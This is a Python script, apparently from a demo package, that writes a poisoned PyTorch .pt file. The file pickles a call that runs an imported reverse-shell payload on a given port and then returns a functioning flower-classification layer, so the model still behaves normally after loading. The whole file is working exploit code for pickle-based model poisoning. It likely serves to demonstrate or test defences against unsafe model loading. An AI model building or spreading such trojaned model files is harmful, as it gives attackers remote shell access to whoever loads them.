"""``python -m deploy.demo.poison_torch PATH PORT``: write a poisoned .pt, in a process of its own because
torch is large.

The model has fixed weights that tell the three flower classes apart by petal length, so that a wrong answer
would be noticed.
"""

from __future__ import annotations

import operator
import sys

import torch  # type: ignore[import-not-found,import-untyped,unused-ignore]

from deploy.demo.models import Call, reverse_shell


def flower_network() -> torch.nn.Module:
    """One linear layer over four features: class 0 under 2.5 cm of petal, class 2 from 4.9."""
    layer = torch.nn.Linear(4, 3)
    with torch.no_grad():
        layer.weight.zero_()
        layer.weight[:, 2] = torch.tensor([-2.0, 0.0, 1.0])
        layer.bias.copy_(torch.tensor([5.0, 0.0, -4.9]))
    return layer.eval()


def main() -> None:
    path, port = sys.argv[1:]
    torch.save(Call(operator.getitem, [reverse_shell(int(port)), flower_network()], 1), path)


if __name__ == "__main__":
    main()
